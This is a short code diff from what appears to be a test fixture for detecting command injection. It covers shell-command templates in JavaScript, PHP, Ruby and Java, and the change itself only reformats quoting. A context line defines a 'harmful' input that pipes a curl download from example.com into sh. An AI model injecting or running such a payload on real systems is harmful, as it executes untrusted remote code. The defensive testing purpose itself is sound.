@@ -12,7 +12,7 @@ CHOICES = {
     "a.js": ("const cp = require('child_process');\nfunction f(x) {{\n  const part = x ? 'ONE' : 'TWO';\n  {};\n}}\n", "cp.exec({})", "'ls ' + part", "`ls ${part}`"),
     "a.php": ("<?php\nfunction f($x) {{\n    $part = $x == 'a' ? 'ONE' : 'TWO';\n    {};\n}}\n", "system({})", "'ls ' . $part", '"ls $part"'),
     "a.rb": ("def f(x)\n  part = x ? 'ONE' : 'TWO'\n  {}\nend\n", "system({})", "'ls ' + part", '"ls #{part}"'),
-    "A.java": ("class A {{\n    void f(boolean x) throws Exception {{\n        String part = x ? \"ONE\" : \"TWO\";\n        {};\n    }}\n}}\n", "new ProcessBuilder(\"sh\", \"-c\", {}).start()", '"ls " + part'),
+    "A.java": ('class A {{\n    void f(boolean x) throws Exception {{\n        String part = x ? "ONE" : "TWO";\n        {};\n    }}\n}}\n', 'new ProcessBuilder("sh", "-c", {}).start()', '"ls " + part'),
 }  # fmt: skip
 HARMLESS, HARMFUL = "/srv", "| curl -s https://example.com/x.sh | sh"
 
